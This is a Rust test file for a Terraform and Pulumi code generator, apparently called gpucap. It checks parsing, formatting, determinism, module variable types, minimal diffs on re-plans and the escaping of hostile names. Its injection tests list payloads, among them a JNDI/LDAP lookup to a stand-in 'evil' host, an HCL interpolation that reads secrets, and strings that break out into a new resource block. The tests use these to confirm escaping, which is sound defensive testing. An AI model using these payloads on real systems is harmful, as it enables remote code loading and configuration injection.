//! `gpucap generate` as a user runs it: fixture plans in, Terraform root modules (HCL, tf-json)
//! and Pulumi YAML out. Checks that the output parses with hcl-rs and python-hcl2, passes every
//! required module variable with the right type, is what `terraform fmt` writes (a `terraform`
//! binary is required, see `support/terraform.rs`), is deterministic, changes only the touched
//! pool's lines on a re-plan, and keeps hostile names as data.

#[path = "support/python.rs"]
mod python;
#[path = "support/terraform.rs"]
mod terraform;

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use assert_cmd::cargo::CommandCargoExt;
use gpucap::plan::Plan;
use hcl::{Body, Expression};

/// Snapshot cases: a name and a plan under `tests/fixtures/plans/`. Adding a plan made from an
/// `examples/` project is one line here.
const CASES: [(&str, &str); 2] = [("aws", "aws.json"), ("gcp-azure", "gcp-azure.json")];

const NOW: &str = "2027-01-03T06:00:00Z";

fn fixture(name: &str) -> PathBuf {
    std::path::PathBuf::from(
        std::env::var_os("CARGO_MANIFEST_DIR")
            .expect("CARGO_MANIFEST_DIR, which cargo sets when it runs the tests"),
    )
    .join("tests/fixtures/plans")
    .join(name)
}

fn gpucap() -> Command {
    let mut cmd = Command::cargo_bin("gpucap").expect("gpucap binary");
    cmd.env("NO_COLOR", "1").env_remove("RUST_LOG");
    cmd
}

struct Run {
    status: i32,
    stdout: String,
    stderr: String,
}

fn generate(plan: &Path, out: &Path, extra: &[&str]) -> Run {
    let output = gpucap()
        .arg("generate")
        .arg(plan)
        .arg("--out")
        .arg(out)
        .args(["--now", NOW])
        .args(extra)
        .output()
        .expect("run gpucap generate");
    Run {
        status: output.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
    }
}

fn generate_ok(plan: &Path, out: &Path, extra: &[&str]) -> Run {
    let run = generate(plan, out, extra);
    assert_eq!(run.status, 0, "gpucap generate failed:\n{}", run.stderr);
    run
}

/// Every file under `dir`, relative path → content.
fn files(dir: &Path) -> BTreeMap<String, String> {
    fn walk(root: &Path, dir: &Path, out: &mut BTreeMap<String, String>) {
        let mut entries: Vec<_> = fs::read_dir(dir)
            .expect("read dir")
            .map(|e| e.expect("entry").path())
            .collect();
        entries.sort();
        for p in entries {
            if p.is_dir() {
                walk(root, &p, out);
            } else {
                let rel = p
                    .strip_prefix(root)
                    .expect("relative")
                    .to_string_lossy()
                    .into_owned();
                out.insert(rel, fs::read_to_string(&p).expect("read file"));
            }
        }
    }
    let mut out = BTreeMap::new();
    walk(dir, dir, &mut out);
    out
}

/// The generated root files (not the copied modules), one after the other.
fn root_files(dir: &Path) -> String {
    files(dir)
        .into_iter()
        .filter(|(p, _)| !p.starts_with("modules/"))
        .map(|(p, text)| format!("--- {p} ---\n{text}"))
        .collect()
}

fn parse_hcl(path: &Path) -> Body {
    let text = fs::read_to_string(path).expect("read");
    hcl::parse(&text)
        .unwrap_or_else(|e| panic!("hcl-rs cannot parse {}: {e}\n{text}", path.display()))
}

fn module_calls(body: &Body) -> Vec<(String, &Body)> {
    body.blocks()
        .filter(|b| b.identifier() == "module")
        .map(|b| (b.labels()[0].as_str().to_string(), b.body()))
        .collect()
}

// --- fixtures -----------------------------------------------------------------------------

#[test]
fn fixture_plans_are_complete_plan_documents() {
    for (_, file) in CASES {
        let text = fs::read_to_string(fixture(file)).expect("read fixture");
        let plan: Plan = serde_json::from_str(&text)
            .unwrap_or_else(|e| panic!("{file} is not a gpucap.plan/v1: {e}"));
        assert_eq!(plan.schema, gpucap::plan::PLAN_SCHEMA);
        assert_eq!(plan.horizon.start, "2027-01-04T00:00:00Z");
        assert!(!plan.actions.is_empty());
    }
}

// --- snapshots ----------------------------------------------------------------------------

#[test]
fn snapshots_of_generated_code() {
    for (name, file) in CASES {
        for format in ["hcl", "tf-json", "pulumi"] {
            let out = tempfile::tempdir().expect("tempdir");
            let run = generate_ok(&fixture(file), out.path(), &["--format", format]);
            insta::assert_snapshot!(format!("generate_{name}_{format}"), root_files(out.path()));
            let stderr = run
                .stderr
                .replace(&out.path().display().to_string(), "<out>");
            insta::assert_snapshot!(format!("generate_{name}_{format}_stderr"), stderr);
        }
    }
}

#[test]
fn stdout_lists_the_written_files_and_stderr_counts_actions() {
    let out = tempfile::tempdir().expect("tempdir");
    let run = generate_ok(&fixture("aws.json"), out.path(), &[]);
    for line in run.stdout.lines() {
        assert!(
            Path::new(line).is_file(),
            "stdout names {line}, which does not exist"
        );
    }
    assert!(run.stdout.contains("main.tf"));
    assert!(run.stderr.contains("left for later runs"), "{}", run.stderr);
    assert!(
        run.stderr.contains("savings plans"),
        "AWS commitments must be warned about:\n{}",
        run.stderr
    );
}

// --- parsing ------------------------------------------------------------------------------

const PY_PARSE: &str = r#"
import json, sys, hcl2
out = {}
for path in sys.argv[1:]:
    with open(path) as f:
        out[path] = hcl2.load(f)
print(json.dumps(out, default=str))
"#;

fn python_hcl2(paths: &[PathBuf]) -> serde_json::Value {
    let out = Command::new(python::python())
        .arg("-c")
        .arg(PY_PARSE)
        .args(paths)
        .output()
        .expect("run python-hcl2");
    assert!(
        out.status.success(),
        "python-hcl2 failed:\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("python-hcl2 JSON")
}

#[test]
fn every_generated_file_parses_with_hcl_rs_and_python_hcl2() {
    let mut paths = Vec::new();
    let dirs: Vec<tempfile::TempDir> = CASES
        .iter()
        .map(|(_, file)| {
            let out = tempfile::tempdir().expect("tempdir");
            generate_ok(&fixture(file), out.path(), &[]);
            out
        })
        .collect();
    for dir in &dirs {
        for rel in files(dir.path()).keys().filter(|p| p.ends_with(".tf")) {
            let path = dir.path().join(rel);
            parse_hcl(&path);
            paths.push(path);
        }
    }
    let parsed = python_hcl2(&paths);
    for path in &paths {
        assert!(
            parsed.get(path.to_string_lossy().as_ref()).is_some(),
            "python-hcl2 did not parse {}",
            path.display()
        );
    }
}

#[test]
fn generated_hcl_is_what_terraform_fmt_writes() {
    for (_, file) in CASES {
        let out = tempfile::tempdir().expect("tempdir");
        generate_ok(&fixture(file), out.path(), &[]);
        let check = terraform::fmt_check(out.path());
        assert!(
            check.status.success(),
            "terraform fmt would change the output for {file}:\n{}\n{}",
            String::from_utf8_lossy(&check.stdout),
            String::from_utf8_lossy(&check.stderr)
        );
    }
}

// --- module interfaces ----------------------------------------------------------------------

/// A module's variables: name → (type expression as text, has a default).
fn module_variables(dir: &Path) -> BTreeMap<String, (String, bool)> {
    let text = fs::read_to_string(dir.join("variables.tf")).expect("variables.tf");
    let body = hcl::parse(&text).expect("parse variables.tf");
    body.blocks()
        .filter(|b| b.identifier() == "variable")
        .map(|b| {
            let ty = b
                .body()
                .attributes()
                .find(|a| a.key() == "type")
                .map(|a| a.expr().to_string())
                .unwrap_or_default();
            let has_default = b.body().attributes().any(|a| a.key() == "default");
            (b.labels()[0].as_str().to_string(), (ty, has_default))
        })
        .collect()
}

/// Whether a literal (or reference) argument can have the declared type.
fn compatible(ty: &str, expr: &Expression, root_vars: &BTreeMap<String, String>) -> bool {
    let ty = ty.replace(' ', "");
    match expr {
        Expression::Traversal(t) => {
            // var.x: compare the root variable's declared type; module/local refs are trusted.
            let text = Expression::Traversal(t.clone()).to_string();
            match text.strip_prefix("var.") {
                Some(name) => root_vars
                    .get(name)
                    .is_some_and(|rt| rt.replace(' ', "") == ty),
                None => true,
            }
        }
        Expression::String(_) => ty == "string",
        Expression::Number(_) => ty == "number",
        Expression::Bool(_) => ty == "bool",
        Expression::Null => true,
        Expression::Array(items) => {
            ty.starts_with("list(")
                && items.iter().all(|i| {
                    let inner = &ty[5..ty.len() - 1];
                    inner.starts_with("object(") && matches!(i, Expression::Object(_))
                        || compatible(inner, i, root_vars)
                })
        }
        Expression::Object(_) => ty.starts_with("map(") || ty.starts_with("object("),
        _ => true,
    }
}

#[test]
fn every_call_passes_existing_variables_of_the_right_type_and_all_required_ones() {
    let mut checked = 0;
    for (_, file) in CASES {
        let out = tempfile::tempdir().expect("tempdir");
        generate_ok(&fixture(file), out.path(), &[]);
        let root_vars: BTreeMap<String, String> = if out.path().join("variables.tf").exists() {
            parse_hcl(&out.path().join("variables.tf"))
                .blocks()
                .map(|b| {
                    let ty = b
                        .body()
                        .attributes()
                        .find(|a| a.key() == "type")
                        .map(|a| a.expr().to_string())
                        .unwrap_or_default();
                    (b.labels()[0].as_str().to_string(), ty)
                })
                .collect()
        } else {
            BTreeMap::new()
        };
        let main = parse_hcl(&out.path().join("main.tf"));
        for (name, body) in module_calls(&main) {
            let source = body
                .attributes()
                .find(|a| a.key() == "source")
                .map(|a| a.expr().to_string())
                .expect("source");
            let source = source.trim_matches('"');
            let vars = module_variables(&out.path().join(source));
            let passed: BTreeSet<&str> = body
                .attributes()
                .map(|a| a.key())
                .filter(|k| !matches!(*k, "source" | "providers"))
                .collect();
            for attr in body.attributes().filter(|a| passed.contains(a.key())) {
                let (ty, _) = vars.get(attr.key()).unwrap_or_else(|| {
                    panic!(
                        "module.{name} passes `{}`, which {source} does not declare",
                        attr.key()
                    )
                });
                assert!(
                    compatible(ty, attr.expr(), &root_vars),
                    "module.{name}: `{}` = {} does not fit type {ty}",
                    attr.key(),
                    attr.expr()
                );
                checked += 1;
            }
            for (var, (_, has_default)) in &vars {
                assert!(
                    *has_default || passed.contains(var.as_str()),
                    "module.{name} does not pass the required variable `{var}` of {source}"
                );
            }
        }
    }
    assert!(checked > 50, "only {checked} arguments checked");
}

// --- determinism and minimal diffs -----------------------------------------------------------

#[test]
fn the_same_plan_gives_byte_identical_files() {
    for (_, file) in CASES {
        for format in ["hcl", "tf-json", "pulumi"] {
            let a = tempfile::tempdir().expect("tempdir");
            let b = tempfile::tempdir().expect("tempdir");
            generate_ok(&fixture(file), a.path(), &["--format", format]);
            generate_ok(&fixture(file), b.path(), &["--format", format]);
            assert_eq!(files(a.path()), files(b.path()), "{file} as {format}");
        }
    }
}

#[test]
fn reordering_actions_changes_nothing() {
    let mut plan: serde_json::Value =
        serde_json::from_str(&fs::read_to_string(fixture("aws.json")).expect("read"))
            .expect("json");
    plan["actions"].as_array_mut().expect("actions").reverse();
    let dir = tempfile::tempdir().expect("tempdir");
    let reversed = dir.path().join("reversed.json");
    fs::write(&reversed, serde_json::to_string(&plan).expect("json")).expect("write");
    let (a, b) = (dir.path().join("a"), dir.path().join("b"));
    generate_ok(&fixture("aws.json"), &a, &[]);
    generate_ok(&reversed, &b, &[]);
    assert_eq!(files(&a), files(&b));
}

/// Line numbers (1-based) of `module "name" {` … `}` in a file, per module.
fn block_ranges(text: &str) -> Vec<(String, usize, usize)> {
    let lines: Vec<&str> = text.lines().collect();
    let mut out = Vec::new();
    let mut i = 0;
    while i < lines.len() {
        if let Some(rest) = lines[i].strip_prefix("module \"") {
            let name = rest.split('"').next().unwrap_or_default().to_string();
            // The comment lines just above belong to the block.
            let mut start = i;
            while start > 0 && lines[start - 1].starts_with('#') {
                start -= 1;
            }
            let end = (i..lines.len())
                .find(|&j| lines[j] == "}")
                .unwrap_or(lines.len() - 1);
            out.push((name, start + 1, end + 1));
            i = end;
        }
        i += 1;
    }
    out
}

#[test]
fn a_replan_that_changes_one_pool_changes_only_that_pools_lines() {
    let text = fs::read_to_string(fixture("aws.json")).expect("read");
    let mut plan: serde_json::Value = serde_json::from_str(&text).expect("json");
    for a in plan["actions"].as_array_mut().expect("actions") {
        if a["pool"] == "a100-us-west" {
            a["instances"] = 5.into();
            a["gpus"] = 40.into();
        }
    }
    plan["fingerprint"]["digest"] = format!("sha256:{}", "c3".repeat(32)).into();
    let dir = tempfile::tempdir().expect("tempdir");
    let changed = dir.path().join("changed.json");
    fs::write(&changed, serde_json::to_string_pretty(&plan).expect("json")).expect("write");
    let (a, b) = (dir.path().join("a"), dir.path().join("b"));
    generate_ok(&fixture("aws.json"), &a, &[]);
    generate_ok(&changed, &b, &[]);
    let (old, new) = (
        fs::read_to_string(a.join("main.tf")).expect("old"),
        fs::read_to_string(b.join("main.tf")).expect("new"),
    );
    let (old_lines, new_lines): (Vec<&str>, Vec<&str>) =
        (old.lines().collect(), new.lines().collect());
    assert_eq!(old_lines.len(), new_lines.len(), "only values change here");
    let ranges = block_ranges(&new);
    let mut touched = BTreeSet::new();
    for (n, (o, x)) in old_lines.iter().zip(&new_lines).enumerate() {
        if o == x {
            continue;
        }
        let line = n + 1;
        // The header and the locals name the plan's fingerprint, which a re-plan changes.
        if o.starts_with('#') && line <= 5
            || o.contains("plan_id")
            || o.contains("plan_fingerprint")
        {
            continue;
        }
        let owner = ranges
            .iter()
            .find(|(_, s, e)| (*s..=*e).contains(&line))
            .map(|(name, _, _)| name.clone())
            .unwrap_or_else(|| {
                panic!("line {line} changed outside any module block: {o:?} → {x:?}")
            });
        touched.insert(owner);
    }
    assert_eq!(touched.len(), 1, "changed blocks: {touched:?}");
    assert!(touched.iter().all(|n| n.contains("a100")), "{touched:?}");
    // Other files: only the header changes.
    let other = |dir: &Path| {
        fs::read_to_string(dir.join("versions.tf"))
            .expect("versions")
            .lines()
            .filter(|l| !l.starts_with('#'))
            .collect::<Vec<_>>()
            .join("\n")
    };
    assert_eq!(other(&a), other(&b));
}

// --- injection --------------------------------------------------------------------------------

const HOSTILE: [&str; 9] = [
    "${jndi:ldap://evil/x}",
    "%{ for x in var.secrets }${x}%{ endfor }",
    "quote\" = \"injected",
    "back\\slash\\",
    "new\nline\r\n} resource \"x\" \"y\" {",
    "GPU 🚀 Ünïcödé \u{202E}rtl",
    "$${already} %%{escaped}",
    "tab\tand\u{7}bell",
    "pool.a",
];

/// A plan whose pool and campaign names are hostile, plus a very long name and names that
/// collide once sanitised.
fn hostile_plan() -> (serde_json::Value, Vec<String>) {
    let text = fs::read_to_string(fixture("aws.json")).expect("read");
    let mut plan: serde_json::Value = serde_json::from_str(&text).expect("json");
    let template = plan["actions"]
        .as_array()
        .expect("actions")
        .iter()
        .find(|a| a["kind"] == "run_spot" && a["pool"] == "a100-us-west")
        .expect("a spot run")
        .clone();
    // Names with control or bidirectional characters are refused when the plan is read
    // (`hostile_control_characters_are_refused_in_plans`); the rest must stay data.
    let mut names: Vec<String> = HOSTILE
        .iter()
        .filter(|s| !s.chars().any(gpucap::text::is_hidden))
        .map(|s| s.to_string())
        .collect();
    names.push("x".repeat(300));
    names.push("pool_a".into());
    names.push("POOL A".into());
    let pool_template = plan["pools"]
        .as_array()
        .expect("pools")
        .iter()
        .find(|p| p["id"] == "a100-us-west")
        .expect("the pool")
        .clone();
    let mut actions = Vec::new();
    for (i, name) in names.iter().enumerate() {
        let mut a = template.clone();
        // Action ids are gpucap's own (`[a-z0-9-]`): a plan with another is refused.
        a["id"] = format!("hostile-{i}").into();
        a["pool"] = name.clone().into();
        a["campaigns"] = serde_json::json!([name]);
        actions.push(a);
        let mut p = pool_template.clone();
        p["id"] = name.clone().into();
        plan["pools"].as_array_mut().expect("pools").push(p);
    }
    plan["actions"] = actions.into();
    (plan, names)
}

fn string_value(expr: &Expression) -> Option<&str> {
    match expr {
        Expression::String(s) => Some(s),
        _ => None,
    }
}

#[test]
fn hostile_control_characters_are_refused_in_plans() {
    let dir = tempfile::tempdir().expect("tempdir");
    for (i, name) in HOSTILE
        .iter()
        .filter(|s| s.chars().any(gpucap::text::is_hidden))
        .enumerate()
    {
        let (mut plan, _) = hostile_plan();
        plan["actions"][0]["campaigns"] = serde_json::json!([name]);
        let path = dir.path().join(format!("control-{i}.json"));
        fs::write(&path, serde_json::to_string_pretty(&plan).expect("json")).expect("write");
        let run = generate(&path, &dir.path().join(format!("out-{i}")), &[]);
        assert_eq!(run.status, 2, "{name:?}: {}", run.stderr);
        assert!(
            run.stderr.contains("actions[0].campaigns[0]"),
            "{}",
            run.stderr
        );
        assert!(
            !dir.path().join(format!("out-{i}")).exists(),
            "nothing written"
        );
    }
}

#[test]
fn hostile_names_stay_data_in_every_format() {
    let (plan, names) = hostile_plan();
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("hostile.json");
    fs::write(&path, serde_json::to_string_pretty(&plan).expect("json")).expect("write");

    // HCL: the parsed `tags.pool` of each call equals one original name, every name appears.
    let hcl_dir = dir.path().join("hcl");
    generate_ok(&path, &hcl_dir, &[]);
    let main = parse_hcl(&hcl_dir.join("main.tf"));
    let calls = module_calls(&main);
    assert_eq!(calls.len(), names.len(), "one pool call per hostile pool");
    let mut seen = BTreeSet::new();
    for (label, body) in &calls {
        assert!(
            label.len() <= 64
                && label.starts_with(|c: char| c.is_ascii_lowercase())
                && label
                    .chars()
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_' || c == '-'),
            "bad identifier {label:?}"
        );
        let tags = body
            .attributes()
            .find(|a| a.key() == "tags")
            .expect("tags")
            .expr();
        let Expression::Object(obj) = tags else {
            panic!("tags is not an object")
        };
        let pool = obj
            .iter()
            .find(|(k, _)| k.to_string().trim_matches('"') == "pool")
            .and_then(|(_, v)| string_value(v))
            .expect("tags.pool");
        seen.insert(pool.to_string());
    }
    assert_eq!(seen, names.iter().cloned().collect::<BTreeSet<_>>());
    // python-hcl2 reads the same values.
    let py = python_hcl2(&[hcl_dir.join("main.tf")]);
    let pools: BTreeSet<String> = py[hcl_dir.join("main.tf").to_string_lossy().as_ref()]["module"]
        .as_array()
        .expect("modules")
        .iter()
        .flat_map(|m| m.as_object().expect("module").values())
        .filter_map(|body| body["tags"]["pool"].as_str().map(str::to_string))
        .collect();
    assert_eq!(pools.len(), names.len(), "python-hcl2 saw {pools:?}");

    // tf-json: the same module names; strings carry `$${` so Terraform reads them literally.
    let json_dir = dir.path().join("json");
    generate_ok(&path, &json_dir, &["--format", "tf-json"]);
    let doc: serde_json::Value =
        serde_json::from_str(&fs::read_to_string(json_dir.join("main.tf.json")).expect("read"))
            .expect("valid JSON");
    let json_names: BTreeSet<&str> = doc["module"]
        .as_object()
        .expect("module")
        .keys()
        .map(String::as_str)
        .collect();
    let hcl_names: BTreeSet<&str> = calls.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(json_names, hcl_names);
    let text = fs::read_to_string(json_dir.join("main.tf.json")).expect("read");
    assert!(
        text.contains("$${jndi"),
        "tf-json must escape interpolation"
    );

    // Pulumi: parses, the same resource names.
    let pulumi_dir = dir.path().join("pulumi");
    generate_ok(&path, &pulumi_dir, &["--format", "pulumi"]);
    let doc: serde_yaml_ng::Value =
        serde_yaml_ng::from_str(&fs::read_to_string(pulumi_dir.join("Pulumi.yaml")).expect("read"))
            .expect("YAML");
    let resources = doc["resources"].as_mapping().expect("resources");
    for name in &hcl_names {
        assert!(
            resources.contains_key(*name),
            "Pulumi.yaml lacks resource {name}"
        );
    }
}

// --- the other formats -----------------------------------------------------------------------

#[test]
fn tf_json_and_pulumi_name_the_same_calls_as_hcl() {
    for (_, file) in CASES {
        let dir = tempfile::tempdir().expect("tempdir");
        let (h, j, p) = (
            dir.path().join("h"),
            dir.path().join("j"),
            dir.path().join("p"),
        );
        generate_ok(&fixture(file), &h, &[]);
        generate_ok(&fixture(file), &j, &["--format", "tf-json"]);
        generate_ok(&fixture(file), &p, &["--format", "pulumi"]);
        let main = parse_hcl(&h.join("main.tf"));
        let hcl_calls: BTreeMap<String, BTreeSet<String>> = module_calls(&main)
            .into_iter()
            .map(|(n, b)| (n, b.attributes().map(|a| a.key().to_string()).collect()))
            .collect();
        let doc: serde_json::Value =
            serde_json::from_str(&fs::read_to_string(j.join("main.tf.json")).expect("read"))
                .expect("JSON");
        let json_calls: BTreeMap<String, BTreeSet<String>> = doc["module"]
            .as_object()
            .expect("module")
            .iter()
            .map(|(n, b)| {
                let keys = b
                    .as_object()
                    .expect("body")
                    .keys()
                    .filter(|k| *k != "//")
                    .cloned()
                    .collect();
                (n.clone(), keys)
            })
            .collect();
        assert_eq!(hcl_calls, json_calls, "{file}");
        let versions = fs::read_to_string(j.join("versions.tf.json")).expect("read");
        serde_json::from_str::<serde_json::Value>(&versions).expect("versions.tf.json is JSON");
        let yaml: serde_yaml_ng::Value =
            serde_yaml_ng::from_str(&fs::read_to_string(p.join("Pulumi.yaml")).expect("read"))
                .expect("YAML");
        assert_eq!(yaml["runtime"].as_str(), Some("yaml"));
        let resources = yaml["resources"].as_mapping().expect("resources");
        for name in hcl_calls.keys() {
            assert!(
                resources.contains_key(name.as_str()),
                "{file}: Pulumi.yaml lacks {name}"
            );
        }
    }
}

#[test]
fn module_source_pins_instead_of_copying() {
    let out = tempfile::tempdir().expect("tempdir");
    generate_ok(
        &fixture("aws.json"),
        out.path(),
        &[
            "--module-source",
            "git::https://github.com/gpucap/gpucap.git?ref=v0.1.0",
        ],
    );
    assert!(!out.path().join("modules").exists());
    let main = fs::read_to_string(out.path().join("main.tf")).expect("main.tf");
    assert!(main.contains(
        "\"git::https://github.com/gpucap/gpucap.git//modules/aws-gpu-pool?ref=v0.1.0\""
    ));
}

// --- bad input and atomic output ------------------------------------------------------------------

#[test]
fn a_bad_plan_exits_2_naming_file_and_field_and_writes_nothing() {
    let dir = tempfile::tempdir().expect("tempdir");
    let text = fs::read_to_string(fixture("aws.json")).expect("read");
    let bad = text.replacen("\"instances\": 8", "\"instances\": \"eight\"", 1);
    let path = dir.path().join("bad.json");
    fs::write(&path, bad).expect("write");
    let out = dir.path().join("out");
    let run = generate(&path, &out, &[]);
    assert_eq!(run.status, 2, "{}", run.stderr);
    assert!(run.stderr.contains("bad.json:"), "{}", run.stderr);
    assert!(
        run.stderr.contains("actions[0].instances"),
        "{}",
        run.stderr
    );
    assert!(!out.exists(), "nothing may be written for a bad plan");

    let mut plan: serde_json::Value = serde_json::from_str(&text).expect("json");
    plan["actions"][2]["due"] = "next tuesday".into();
    fs::write(&path, serde_json::to_string(&plan).expect("json")).expect("write");
    let run = generate(&path, &out, &[]);
    assert_eq!(run.status, 2, "{}", run.stderr);
    assert!(run.stderr.contains("actions[2].due"), "{}", run.stderr);
    assert!(!out.exists());
}

#[test]
fn regenerating_in_another_format_replaces_the_old_files_and_keeps_others() {
    let out = tempfile::tempdir().expect("tempdir");
    generate_ok(&fixture("aws.json"), out.path(), &[]);
    fs::write(out.path().join("terraform.tfvars"), "x = 1\n").expect("tfvars");
    generate_ok(&fixture("aws.json"), out.path(), &["--format", "tf-json"]);
    assert!(!out.path().join("main.tf").exists());
    assert!(out.path().join("main.tf.json").exists());
    assert!(out.path().join("terraform.tfvars").exists());
    assert!(!out.path().join(".gpucap-staging").exists());
}

#[test]
fn a_purchase_in_pieces_is_one_module_call_per_piece() {
    // The fixture's AWS block, grown past what one block holds (64): the plan lists its
    // pieces and generate writes one call for each.
    let mut plan: serde_json::Value =
        serde_json::from_str(&fs::read_to_string(fixture("aws.json")).unwrap()).unwrap();
    let block = plan["actions"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .find(|a| a["kind"] == "purchase_capacity_block")
        .unwrap();
    block["instances"] = 71.into();
    block["gpus"] = 568.into();
    block["pieces"] = serde_json::json!([64, 7]);
    let id = block["id"].as_str().unwrap().to_string();
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("plan.json");
    fs::write(&path, serde_json::to_string(&plan).unwrap()).unwrap();
    let out = dir.path().join("out");
    generate_ok(&path, &out, &[]);
    let body = parse_hcl(&out.join("main.tf"));
    let counts: Vec<(String, String)> = module_calls(&body)
        .into_iter()
        .filter_map(|(name, b)| {
            let count = b
                .attributes()
                .find(|a| a.key() == "instance_count")?
                .expr()
                .to_string();
            let named = b
                .attributes()
                .find(|a| a.key() == "name")?
                .expr()
                .to_string();
            named.contains(&id).then_some((name, count))
        })
        .collect();
    assert_eq!(counts.len(), 2, "{counts:?}");
    assert!(
        counts[0].0.ends_with("_1") && counts[1].0.ends_with("_2"),
        "{counts:?}"
    );
    assert_eq!(
        counts.iter().map(|c| c.1.as_str()).collect::<Vec<_>>(),
        ["64", "7"]
    );
}

#[test]
fn a_block_larger_than_the_cloud_sells_is_one_module_call_per_piece() {
    // The fixture's AWS block, grown past what one block holds (64), in a plan that lists no
    // pieces: generate writes one call per piece of AWS's rule (64 + 36), the pieces `apply`
    // buys.
    let mut plan: serde_json::Value =
        serde_json::from_str(&fs::read_to_string(fixture("aws.json")).unwrap()).unwrap();
    let block = plan["actions"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .find(|a| a["kind"] == "purchase_capacity_block")
        .unwrap();
    block["instances"] = 100.into();
    block["gpus"] = 800.into();
    let id = block["id"].as_str().unwrap().to_string();
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("plan.json");
    fs::write(&path, serde_json::to_string(&plan).unwrap()).unwrap();
    let out = dir.path().join("out");
    generate_ok(&path, &out, &[]);
    let body = parse_hcl(&out.join("main.tf"));
    let counts: Vec<(String, String)> = module_calls(&body)
        .into_iter()
        .filter_map(|(name, b)| {
            let count = b
                .attributes()
                .find(|a| a.key() == "instance_count")?
                .expr()
                .to_string();
            let named = b
                .attributes()
                .find(|a| a.key() == "name")?
                .expr()
                .to_string();
            named.contains(&id).then_some((name, count))
        })
        .collect();
    assert_eq!(counts.len(), 2, "{counts:?}");
    assert!(
        counts[0].0.ends_with("_1") && counts[1].0.ends_with("_2"),
        "{counts:?}"
    );
    assert_eq!(
        counts.iter().map(|c| c.1.as_str()).collect::<Vec<_>>(),
        ["64", "36"]
    );
}
